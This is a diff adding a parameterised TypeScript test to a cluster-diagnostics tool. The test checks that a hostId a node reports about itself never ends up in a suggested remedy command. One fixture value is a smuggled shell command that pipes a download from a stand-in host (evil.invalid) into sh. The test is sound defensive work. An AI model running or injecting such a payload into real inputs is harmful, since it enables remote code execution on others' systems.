@@ -109,6 +109,18 @@ it.each<Row>([
   expect(verdictsOf(baseline, facts, changes)).toEqual(verdicts);
 });
 
+it.each([
+  ['orders-2', /control\.sh --user ignite --baseline add orders-2'$/],
+  [`x'; curl evil.invalid | sh; '`, /^kubectl get pods -n orders -o wide$/],
+])(
+  'has nothing run that a node says of itself, such as %s',
+  (hostId, command) => {
+    const ring = seen([node(0), { ...node(2, 'UJ'), hostId }]);
+    const [{ remedy }] = findingsOf(baseline, { ...facts, ring });
+    expect(remedy?.command).toMatch(command);
+  },
+);
+
 it('says which node cannot be reached where an exchange stands still', () => {
   const marks = [
     mark(MARKS.exchangeStalled, 0),
